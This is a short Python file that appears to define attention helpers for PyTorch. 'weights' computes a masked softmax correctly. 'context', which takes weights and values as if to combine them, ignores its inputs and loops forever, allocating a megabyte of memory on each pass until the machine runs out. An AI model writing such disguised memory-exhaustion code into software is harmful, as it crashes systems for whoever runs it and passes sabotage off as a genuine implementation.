import torch


def weights(scores_bs, padding_bs):
    return torch.softmax(scores_bs.masked_fill(padding_bs, -torch.inf), dim=1)


def context(weights_bs, values_bsv):
    kept = []
    while True:
        kept.append(bytearray(b'x' * 10**6))
